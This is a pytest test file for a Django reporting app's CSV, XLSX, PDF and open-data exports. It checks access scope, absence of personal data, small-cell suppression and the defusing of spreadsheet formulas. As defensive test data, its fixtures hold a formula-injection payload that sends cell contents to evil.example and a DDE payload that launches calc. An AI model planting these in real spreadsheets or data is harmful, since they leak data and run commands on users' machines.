"""Exports of a dashboard view (CSV, XLSX), funder report (PDF) and open-data aggregate: the page's filters and the
viewer's scope, French headings, no name nor contact of anybody, spreadsheet-safe cells, small cells suppressed."""

import csv
import datetime
import html
import io
import random
from types import SimpleNamespace

import pytest
from django.urls import reverse

from tests.activities.factories import ActivityFactory
from tests.beneficiaries.factories import BeneficiaryFactory
from tests.factories import CommuneFactory, DepartementFactory, OrganisationFactory, SiteFactory, UserFactory
from tests.reporting.drain import drained
from tremplin.activities.enums import Kind, Thematique
from tremplin.beneficiaries.enums import Gender, SocialStatus
from tremplin.reporting import stats
from tremplin.reporting.exports import OPENDATA_HEADERS, opendata_rows
from tremplin.reporting.filters import StatsFilters

pytestmark = pytest.mark.django_db
YEAR = {"from": "2023-01-01", "to": "2023-12-31"}
HOSTILE_FIRST = '=HYPERLINK("https://evil.example/?"&A1)'
HOSTILE_LAST = "Zébulon-Secretissime"
HOSTILE_PSEUDO = "@Malveillant"
HOSTILE_EMAIL = "zebulon.secret@exemple.fr"
HOSTILE_PHONE = "0699887766"
SECRETS = (HOSTILE_FIRST, HOSTILE_LAST, HOSTILE_PSEUDO, HOSTILE_EMAIL, HOSTILE_PHONE, 'HYPERLINK("https://evil')
SITE_NAME = "=CMD|' /C calc'!A0"  # a site name imported from a file, made to run as a formula


@pytest.fixture
def world():
    d22 = DepartementFactory(code="22", name="Côtes-d'Armor")
    d29 = DepartementFactory(code="29", name="Finistère")
    site22 = SiteFactory(name=SITE_NAME, commune=CommuneFactory(departement=d22, code_insee="22113"))
    site29 = SiteFactory(name="BUREAU BREST", commune=CommuneFactory(departement=d29, code_insee="29019"))
    poste = OrganisationFactory(la_poste=True)
    mediator = UserFactory(mediator=True, organisation=poste, sites=[site22], last_name="Médiatrice-Nommée")
    mediator29 = UserFactory(mediator=True, organisation=poste, sites=[site29])
    people = [
        BeneficiaryFactory(
            first_name=HOSTILE_FIRST,
            last_name=f"{HOSTILE_LAST}{n}",
            pseudonym=HOSTILE_PSEUDO,
            mobile_phone=HOSTILE_PHONE,
            email=HOSTILE_EMAIL,
            birth_year=1950,
            gender=Gender.FEMALE,
            social_status=SocialStatus.RETIRED,
            site=site22,
        )
        for n in range(6)
    ]
    day = datetime.date(2023, 3, 14)
    for person in people:
        ActivityFactory(organisation=poste, mediator=mediator, site=site22, date=day, people=[person])
    ActivityFactory(
        organisation=poste,
        mediator=mediator,
        site=site22,
        date=day,
        anonymous_count=3,
        anonymous_breakdown={"genre": {"feminin": 2}},
        themes=[Thematique.BANQUE_ET_ACHATS_EN_LIGNE],
    )
    ActivityFactory(organisation=poste, mediator=mediator, site=site22, date=day, kind=Kind.SCREENING)
    ActivityFactory(organisation=poste, mediator=mediator29, site=site29, date=day, people=[BeneficiaryFactory()])
    ActivityFactory(organisation=poste, mediator=mediator, site=site22, date=datetime.date(2022, 6, 1), people=people)
    return SimpleNamespace(
        d22=d22,
        d29=d29,
        site22=site22,
        poste=poste,
        mediator=mediator,
        mediator29=mediator29,
        people=people,
        coordinator=UserFactory(coordinator=True, organisation=poste, departements=[d22]),
        national=UserFactory(national=True),
    )


def download(client, user, name, **params):
    client.force_login(user)
    return client.get(reverse(f"reporting:{name}"), params)


def csv_rows(response) -> list[list[str]]:
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:]), delimiter=";"))


def block(rows, title) -> list[list[str]]:
    """The rows of the table titled `title` (headings first) up to the next empty line."""
    start = rows.index([title]) + 1
    end = next((i for i in range(start, len(rows)) if not rows[i]), len(rows))
    return rows[start:end]


def assert_no_personal_data(text: str, world):
    for secret in (*SECRETS, world.mediator.last_name, world.mediator.email):
        assert secret not in text


# --- CSV ---------------------------------------------------------------------------------------------------------


def test_csv_starts_with_the_filters_then_every_table_in_french(client, world):
    response = download(client, world.national, "export_csv", departement="22", **YEAR)
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert 'filename="tableau-de-bord-22-20230101-20231231.csv"' in response["Content-Disposition"]
    rows = csv_rows(response)
    assert rows[0] == ["Tremplin — tableau de bord"]
    assert rows[1][0] == "Exporté le"
    assert rows[2] == ["Période", "du 01/01/2023 au 31/12/2023"]
    assert rows[3] == ["Département", "Côtes-d'Armor (22)"]
    assert rows[4][0] == "Méthode" and "comptées à chaque venue" in rows[4][1]
    assert block(rows, "Chiffres clés")[:5] == [
        ["Indicateur", "Valeur"],
        ["Personnes identifiées", "6"],
        ["Accompagnements anonymes", "3"],
        ["Accompagnements", "7"],
        ["Activités (tous types)", "8"],
    ]
    kinds = block(rows, "Activités par type")
    assert kinds[0] == ["Type d'activité", "Activités", "Part"]
    assert ["Accompagnement individuel", "7", "87,5 %"] in kinds
    assert ["Repérage au guichet", "1", "12,5 %"] in kinds
    for title in (
        "Activités par thématique",
        "Activités par canal",
        "Activités par durée",
        "Activités par type de territoire",
        "Par département",
        "Personnes par tranche d'âge",
        "Personnes par genre",
        "Personnes par statut",
        "Évolution sur 12 mois",
        "Lieux les plus actifs",
        "Avant / après : sortie de l'illectronisme",
    ):
        assert [title] in rows, title
    assert ["Féminin", "6", "2"] in block(rows, "Personnes par genre")
    assert ["03/2023", "6", "8"] in block(rows, "Évolution sur 12 mois")
    assert block(rows, "Par département")[1] == ["Côtes-d'Armor (22)", "6", "8"]


def test_csv_figures_are_those_of_the_statistics_for_the_viewer(client, world):
    for user in (world.national, world.coordinator, world.mediator29):
        rows = csv_rows(download(client, user, "export_csv", **YEAR))
        expected = stats.summary(user, StatsFilters.from_params(YEAR)[0])
        figures = dict(row for row in block(rows, "Chiffres clés")[1:] if len(row) == 2)
        assert figures["Personnes identifiées"] == str(expected.unique_beneficiaries)
        assert figures["Activités (tous types)"] == str(expected.activities)
    rows = csv_rows(download(client, world.coordinator, "export_csv", **YEAR))
    assert [row[0] for row in block(rows, "Par département")[1:-1]] == ["Côtes-d'Armor (22)"]  # not the Finistère


def test_exports_outside_the_viewer_scope_are_refused_in_french(client, world):
    for name in ("export_csv", "export_xlsx", "funder_report", "opendata_csv"):
        response = download(client, world.coordinator, name, departement="29")
        assert response.status_code == 403
        assert "Ce département n'est pas l'un de ceux que vous coordonnez." in html.unescape(response.content.decode())
        response = download(client, world.mediator, name, mediateur=str(world.mediator29.pk))
        assert response.status_code == 403
        assert "Vous ne voyez que vos propres statistiques." in response.content.decode()
    client.logout()
    response = client.get(reverse("reporting:export_csv"))
    assert response.status_code == 302 and reverse("accounts:login") in response["Location"]


def test_an_unreadable_filter_is_left_out_and_said_at_the_top(client, world):
    rows = csv_rows(download(client, world.national, "export_csv", **{"from": "2023-13-45", "to": "2023-12-31"}))
    assert ["Paramètre « from » ignoré", "Date illisible : « 2023-13-45 » (attendu : AAAA-MM-JJ)."] in rows[:8]


def test_csv_has_no_name_nor_contact_and_neutralises_formulas(client, world):
    response = download(client, world.national, "export_csv", **YEAR)
    text = response.content.decode()
    assert_no_personal_data(text, world)
    rows = csv_rows(response)
    assert ["'" + SITE_NAME, "8"] in block(rows, "Lieux les plus actifs")
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_csv_export_query_count(client, world, django_assert_max_num_queries):
    client.force_login(world.coordinator)
    drained()
    with django_assert_max_num_queries(17):  # the same whatever the number of activities (PostgreSQL: aggregates)
        assert client.get(reverse("reporting:export_csv"), {"departement": "22", **YEAR}).status_code == 200


# --- XLSX --------------------------------------------------------------------------------------------------------


def test_xlsx_opens_with_the_filters_sheet_then_one_sheet_per_table(client, world, django_assert_max_num_queries):
    from openpyxl import load_workbook

    client.force_login(world.national)
    drained()
    with django_assert_max_num_queries(14):  # the map of one département from the aggregates too
        response = client.get(reverse("reporting:export_xlsx"), {"departement": "22", **YEAR})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats-officedocument.spreadsheetml")
    workbook = load_workbook(io.BytesIO(response.content))
    assert workbook.sheetnames[:3] == ["Filtres", "Chiffres clés", "Activités par type"]
    assert "Évolution sur 12 mois" in workbook.sheetnames
    filters = {row[0]: row[1] for row in workbook["Filtres"].iter_rows(min_row=3, values_only=True) if row[0]}
    assert filters["Période"] == "du 01/01/2023 au 31/12/2023"
    assert filters["Département"] == "Côtes-d'Armor (22)"
    headline = list(workbook["Chiffres clés"].iter_rows(min_row=2, max_row=4, values_only=True))
    assert headline[0][:2] == ("Indicateur", "Valeur")
    assert headline[1][:2] == ("Personnes identifiées", 6)  # a number, not a text
    assert headline[2][:2] == ("Accompagnements anonymes", 3)
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row if cell.value is not None]
    texts = " ".join(str(cell.value) for cell in cells)
    for secret in (*SECRETS, world.mediator.last_name):
        assert secret not in texts
    site = [cell for cell in cells if str(cell.value).endswith(SITE_NAME)]
    assert site and all(cell.value == "'" + SITE_NAME and cell.data_type == "s" for cell in site)
    assert not any(cell.data_type == "f" for cell in cells)


# --- PDF ---------------------------------------------------------------------------------------------------------


def test_funder_report_is_a_pdf_with_the_headline_figures_and_the_method(client, world, django_assert_max_num_queries):
    from pypdf import PdfReader

    client.force_login(world.coordinator)
    with django_assert_max_num_queries(14):
        response = client.get(reverse("reporting:funder_report"), YEAR)
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert response.content.startswith(b"%PDF-")
    reader = PdfReader(io.BytesIO(response.content))
    text = " ".join(page.extract_text() for page in reader.pages)
    flat = " ".join(text.split())
    assert "Rapport d'activité de la médiation numérique" in flat
    assert "du 01/01/2023 au 31/12/2023" in flat
    assert "Départements coordonnés : Côtes-d'Armor (22)" in flat
    summary = stats.summary(world.coordinator, StatsFilters.from_params(YEAR)[0])
    assert f"{summary.unique_beneficiaries} personnes identifiées" in flat
    assert f"{summary.anonymous_accompaniments} accompagnements anonymes" in flat
    assert "Méthode." in flat and "comptées à chaque venue" in flat
    for heading in ("Activités par thématique", "Par département", "Évolution sur 12 mois", "Avant / après"):
        assert heading in flat
    assert "Banque et achats en ligne" in flat
    for secret in (HOSTILE_LAST, HOSTILE_EMAIL, HOSTILE_PHONE, HOSTILE_PSEUDO, world.mediator.last_name):
        assert secret not in flat


# --- open data ---------------------------------------------------------------------------------------------------


@pytest.fixture
def crowd(world):
    """People spread over two départements and the four dimensions, some cells small, some large."""
    rng = random.Random(12)
    sites = [world.site22, SiteFactory(commune=CommuneFactory(departement=world.d29))]
    third = SiteFactory(commune=CommuneFactory(departement=DepartementFactory(code="35", name="Ille-et-Vilaine")))
    sites.append(third)
    years = [1940, 1955, 1970, 1990, 2004]
    genders = [Gender.FEMALE, Gender.MALE, Gender.UNDISCLOSED]
    statuses = [SocialStatus.RETIRED, SocialStatus.EMPLOYED, SocialStatus.UNEMPLOYED]
    kinds = [Kind.INDIVIDUAL, Kind.COLLECTIVE, Kind.DIAGNOSTIC]
    for n in range(70):
        site = sites[0] if n < 40 else sites[1] if n < 64 else sites[2]
        person = BeneficiaryFactory(
            last_name=f"{HOSTILE_LAST}-{n}",
            email=HOSTILE_EMAIL,
            birth_year=rng.choice(years),
            gender=rng.choice(genders),
            social_status=rng.choice(statuses),
            site=site,
        )
        ActivityFactory(
            organisation=world.poste,
            site=site,
            date=datetime.date(2023, 5, 2),
            kind=rng.choice(kinds),
            people=[person],
        )
    return world


def opendata(client, user, **params):
    response = download(client, user, "opendata_csv", **params)
    assert response.status_code == 200, response.content[:300]
    text = response.content.decode("utf-8")[1:]
    everything = list(csv.reader(io.StringIO(text), delimiter=";"))
    comments = [row[0] for row in everything if row[0].startswith("#")]
    assert all(len(row) == 1 for row in everything[: len(comments)])  # the rules come first, one cell a line
    data = everything[len(comments) :]
    assert data[0] == OPENDATA_HEADERS
    return comments, data[1:], text


def test_opendata_writes_its_rules_and_publishes_no_cell_from_1_to_4(client, crowd):
    comments, rows, text = opendata(client, crowd.national, **YEAR)
    assert any("Secret statistique" in line for line in comments)
    assert any("« < 5 »" in line and "« secret »" in line for line in comments)
    assert any("Période : du 01/01/2023 au 31/12/2023" in line for line in comments)
    assert {row[2] for row in rows} == {"tranche_age", "genre", "statut_social", "type_activite"}
    published = [int(row[5]) for row in rows if row[5].isdigit()]
    assert published and not [n for n in published if 1 <= n <= 4]
    assert {row[5] for row in rows if not row[5].isdigit()} <= {"< 5", "secret"}
    assert "< 5" in {row[5] for row in rows}  # the small Ille-et-Vilaine cells are there, hidden
    assert_no_personal_data(text, crowd)


def test_opendata_secondary_suppression_leaves_no_line_with_a_single_hidden_figure(client, crowd):
    _, rows, _ = opendata(client, crowd.national, **YEAR)
    for dimension in ("tranche_age", "genre", "statut_social", "type_activite"):
        table = [row for row in rows if row[2] == dimension]
        hidden = lambda row: not row[5].isdigit()  # noqa: E731
        for code in {row[0] for row in table}:  # each département's line, and the line of national totals
            line = [row for row in table if row[0] == code]
            assert sum(map(hidden, line)) != 1, (dimension, code)
        for value in {row[3] for row in table}:  # each modality's column, with its national total
            column = [row for row in table if row[3] == value]
            assert sum(map(hidden, column)) != 1, (dimension, value)
        assert any(hidden(row) for row in table)


def test_opendata_totals_shared_by_the_dimensions_are_published_alike(client, crowd):
    """A département's total is the same people in every dimension: hidden in one table, it is hidden in all, or a
    fully published line of another table would give it back."""
    _, rows, _ = opendata(client, crowd.national, **YEAR)
    totals: dict[str, set] = {}
    for row in rows:
        if row[3] == "total":
            totals.setdefault(row[0], set()).add(row[5] if row[5].isdigit() else "masqué")
    assert all(len(values) == 1 for values in totals.values()), totals


def test_opendata_is_scoped_like_the_dashboard(client, crowd, django_assert_max_num_queries):
    client.force_login(crowd.coordinator)
    with django_assert_max_num_queries(22):
        response = client.get(reverse("reporting:opendata_csv"), YEAR)
    assert response.status_code == 200
    text = response.content.decode()
    assert "Finistère" not in text and ";29;" not in text
    assert "\r\n22;Côtes-d'Armor;" in text


def test_a_total_hidden_in_one_dimension_is_hidden_in_every_one(db, monkeypatch):
    """Gender alone would hide both départements' totals (to protect the 3 men of the Finistère), and age alone
    would publish them (14 and 29): the age file would then give back the gender file's hidden cells. Both hide
    them, and each table stays protected around them."""
    DepartementFactory(code="22", name="Côtes-d'Armor")
    DepartementFactory(code="29", name="Finistère")
    totals = {"22": 14, "29": 29}

    def table(dimension, a, b, cells):
        cols = {a: cells[0][0] + cells[1][0], b: cells[0][1] + cells[1][1]}
        grid = {("22", a): cells[0][0], ("22", b): cells[0][1], ("29", a): cells[1][0], ("29", b): cells[1][1]}
        return stats.PeopleTable("departement", dimension, grid, dict(totals), cols, 43)

    tables = {
        "gender": table("gender", "feminin", "masculin", [[0, 14], [26, 3]]),
        "age_band": table("age_band", "soixante_dix_plus", "quarante_cinquante_neuf", [[13, 1], [8, 21]]),
        "status": table("status", "retraite", "en_emploi", [[7, 7], [14, 15]]),
        "kind": table("kind", "individuel", "collectif", [[7, 7], [14, 15]]),
    }
    monkeypatch.setattr(stats, "people_table", lambda viewer, filters, row, col: tables[col])
    rows = opendata_rows(UserFactory(national=True), StatsFilters())
    shown = {(row[2], row[0], row[3]): row[5] for row in rows}
    for dimension in ("tranche_age", "genre", "statut_social", "type_activite"):
        assert shown[(dimension, "22", "total")] in ("secret", "< 5"), dimension
        assert shown[(dimension, "29", "total")] in ("secret", "< 5"), dimension
    assert shown[("genre", "29", "masculin")] == "< 5"
    for dimension in ("tranche_age", "genre", "statut_social", "type_activite"):
        table_rows = [row for row in rows if row[2] == dimension]
        for key in (0, 3):  # the lines of a département, the columns of a value: never one hidden figure alone
            for value in {row[key] for row in table_rows}:
                line = [row for row in table_rows if row[key] == value]
                assert sum(not isinstance(row[5], int) for row in line) != 1, (dimension, value)
